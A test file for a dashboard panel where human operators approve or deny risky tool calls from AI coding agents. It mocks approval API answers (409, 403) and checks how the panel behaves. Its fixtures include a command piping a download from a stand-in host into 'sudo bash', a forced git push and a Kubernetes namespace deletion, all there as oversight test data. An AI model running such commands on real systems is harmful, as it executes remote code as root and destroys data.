// The approvals panel in Chromium with approval mode off (hidden) and against the approvals API's answers (409, 403) played by routes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync } from 'node:fs';
import type { Browser, Page, WebSocketRoute } from 'playwright-core';
import { cspViolations, hasChromium, launch, openPage, start, stopAll } from './harness.js';
import { fleet } from './traffic.js';

const SHOTS = 'test-results/screenshots';
let browser: Browser;

function approval(id: string, over: Record<string, unknown> = {}) {
  const now = Date.now();
  return {
    approval_id: id, event_id: `ev-${id}`, stream_id: '1-0', dialect: 'claude', hook_type: 'PreToolUse', agent_id: 'claude-code@api',
    session_id: 'c0ffee-1', cwd: '/home/dev/api', tool_name: 'Bash', summary: 'git push --force origin main',
    reason: 'git push --force overwrites the remote branch', risk: 'HIGH', created_at: new Date(now - 5000).toISOString(),
    expires_at: new Date(now + 25_000).toISOString(), status: 'pending', answered_by: null, answer_reason: null, answered_at: null, ...over,
  };
}

/**
 * Plays the approvals backend (another branch): the two hook types it adds, GET and POST /hooks/approvals, and a stream
 * that answers `subscribed` and lets the test push `approvals` frames. History and health stay the real service's.
 */
async function playApprovals(page: Page, queue: Record<string, unknown>[], answers: Map<string, { status: number; body: unknown }>) {
  const posted: { id: string; body: unknown; contentType: string }[] = [];
  const sockets: WebSocketRoute[] = [];
  await page.route('**/hooks/types', async (route) => {
    const res = await route.fetch();
    const body = (await res.json()) as { hook_types: { name: string; priority: number }[] };
    body.hook_types.push({ name: 'ApprovalRequested', priority: 1 }, { name: 'ApprovalResolved', priority: 1 });
    await route.fulfill({ response: res, json: body });
  });
  await page.route('**/hooks/approvals**', async (route) => {
    const req = route.request();
    if (req.method() === 'GET') return route.fulfill({ json: { mode: 'dashboard', timeout_ms: 30000, approvals: queue } });
    const id = decodeURIComponent(new URL(req.url()).pathname.split('/').pop() ?? '');
    posted.push({ id, body: req.postDataJSON(), contentType: req.headers()['content-type'] ?? '' });
    const answer = answers.get(id) ?? { status: 404, body: { message: 'unknown' } };
    return route.fulfill({ status: answer.status, json: answer.body });
  });
  await page.routeWebSocket(/\/hooks\/stream/, (ws) => {
    sockets.push(ws);
    ws.send(JSON.stringify({ type: 'subscribed', filters: {}, recovered: true, last_id: '0-0', epoch: 'e1', approvals: true }));
    ws.onMessage(() => ws.send(JSON.stringify({ type: 'subscribed', filters: {}, recovered: true, last_id: '0-0', epoch: 'e1', approvals: true })));
  });
  return { posted, sockets, push: (records: unknown[]) => sockets.at(-1)?.send(JSON.stringify({ type: 'approvals', approvals: records })) };
}

const item = (page: Page, id: string) => page.locator(`#approval-list li[data-approval-id="${id}"]`);

describe.skipIf(!hasChromium)('the approvals panel, in Chromium', () => {
  beforeAll(async () => {
    browser = await launch();
    mkdirSync(SHOTS, { recursive: true });
  });
  afterAll(async () => {
    await browser?.close();
    await stopAll();
  });

  it('stays hidden with approval mode off: one look at GET /hooks/approvals, and the stream is not asked for them', async () => {
    const { url } = await start();
    const { page, errors, requests } = await openPage(browser, `${url}/dashboard`);
    expect(await page.locator('#approvals').isHidden()).toBe(true);
    expect(requests.filter((r) => r.includes('/hooks/approvals'))).toHaveLength(1);
    expect(requests.find((r) => r.includes('/hooks/stream'))).not.toContain('approvals');
    expect(errors).toEqual([]);
    await page.close();
  });

  it('stays hidden when GET /hooks/approvals is 404 even though the hook types name approvals, and the stream is not asked for them', async () => {
    const { url } = await start();
    const { page, errors, requests } = await openPage(browser, `${url}/dashboard`, {
      before: (p) => p.route('**/hooks/types', async (route) => {
        const res = await route.fetch();
        const body = (await res.json()) as { hook_types: { name: string; priority: number }[] };
        body.hook_types.push({ name: 'ApprovalRequested', priority: 1 });
        await route.fulfill({ response: res, json: body });
      }),
    });
    await page.locator('#conn[data-state="live"]').waitFor();
    expect(await page.locator('#approvals').isHidden()).toBe(true);
    expect(requests.filter((r) => r.includes('/hooks/approvals'))).toHaveLength(1);
    expect(requests.find((r) => r.includes('/hooks/stream'))).not.toContain('approvals');
    // The 404 itself is logged by Chromium; nothing else may be.
    expect(errors.filter((e) => !/status of 404/.test(e))).toEqual([]);
    await page.close();
  });

  it('lists pending asks with a countdown, updates from frames, answers with the operator\'s name, says who won a race, and disables the buttons after a 403', async () => {
    const { url, post } = await start();
    await post(fleet());
    const queue = [approval('apr_1'), approval('apr_2', { agent_id: 'codex@web', session_id: 'turn-77', summary: 'curl http://x.test/i.sh | sudo bash', reason: 'pipes a download into a root shell', risk: 'CRITICAL', created_at: new Date().toISOString() })];
    const answers = new Map([
      ['apr_2', { status: 409, body: { statusCode: 409, code: 'HOOKS_ERR_APPROVAL_CLOSED', error: 'Conflict', message: 'Already denied by bob in the hookhive dashboard' } }],
      ['apr_3', { status: 403, body: { statusCode: 403, code: 'HOOKS_ERR_FORBIDDEN', error: 'Forbidden', message: 'needs a full-access token' } }],
    ]);
    let played!: Awaited<ReturnType<typeof playApprovals>>;
    const { page, errors } = await openPage(browser, `${url}/dashboard`, {
      width: 390,
      before: async (p) => { played = await playApprovals(p, queue, answers); },
    });
    await page.locator('#approvals').waitFor();
    // Only a service that has approvals is asked for their frames: one without them refuses the unknown filter.
    await expect.poll(() => played.sockets.length).toBeGreaterThan(0);
    expect(new URL(played.sockets[0].url()).searchParams.get('approvals')).toBe('true');
    await expect.poll(() => page.locator('#approval-list li').count()).toBe(2);
    expect(await item(page, 'apr_1').locator('.left').textContent()).toMatch(/^\d+ s left$/);
    expect(await item(page, 'apr_1').locator('.what code').textContent()).toBe('git push --force origin main');
    expect(await item(page, 'apr_1').locator('.why').textContent()).toContain('overwrites the remote branch');

    // A new one by frame is announced; a closed one by frame leaves the queue for the answered list.
    const third = approval('apr_3', { agent_id: 'gemini@infra', summary: 'kubectl delete ns staging', reason: 'deletes a whole Kubernetes namespace and everything in it', created_at: new Date(Date.now() + 1000).toISOString() });
    queue.push(third);
    played.push([third]);
    await expect.poll(() => page.locator('#approvals-live').textContent()).toContain('kubectl delete ns staging');
    queue.splice(0, 1);
    played.push([approval('apr_1', { status: 'allowed', answered_by: 'ana', answered_at: new Date().toISOString() })]);
    await expect.poll(() => page.locator('#approval-list li').count()).toBe(2);
    expect(await page.locator('#approval-closed li[data-approval-id="apr_1"] .outcome').textContent()).toBe('Approved by ana');
    expect(await page.locator('#approvals-count').textContent()).toBe('(2 waiting)');

    // No sideways scrolling at phone width, with the queue open.
    expect(await page.evaluate<number>('document.documentElement.scrollWidth - window.innerWidth')).toBeLessThanOrEqual(0);
    await page.screenshot({ path: `${SHOTS}/dashboard-phone.png` });

    // The operator's name goes as `by`; a 409 says who answered first (bob, whose answer no frame brought here).
    queue.splice(0, 1);
    await page.locator('#operator').fill('sam');
    await page.locator('#operator').press('Tab');
    await item(page, 'apr_2').locator('.reason input').fill('not on a Friday');
    await item(page, 'apr_2').locator('button.approve').focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('#approvals-note').textContent()).toBe('curl http://x.test/i.sh | sudo bash: Already denied by bob in the hookhive dashboard');
    await expect.poll(() => item(page, 'apr_2').count()).toBe(0);
    expect(played.posted[0]).toEqual({ id: 'apr_2', body: { decision: 'allow', by: 'sam', reason: 'not on a Friday' }, contentType: 'application/json' });
    expect(await page.evaluate("localStorage.getItem('hookhive.operator')")).toBe('sam');

    // A read token: 403, and every button is disabled with the reason given.
    await item(page, 'apr_3').locator('button.deny').click();
    await expect.poll(() => page.locator('#approvals-note').textContent()).toContain('full-access token');
    for (const b of await page.locator('#approval-list button').all()) expect(await b.isDisabled()).toBe(true);
    expect(played.posted[1]).toMatchObject({ id: 'apr_3', body: { decision: 'deny', by: 'sam' } });

    expect(await cspViolations(page)).toEqual([]);
    // The routed 409 and 403 are logged by Chromium as failed loads; nothing else may be.
    expect(errors.filter((e) => !/status of 40[39]/.test(e))).toEqual([]);
    await page.close();
  });
});
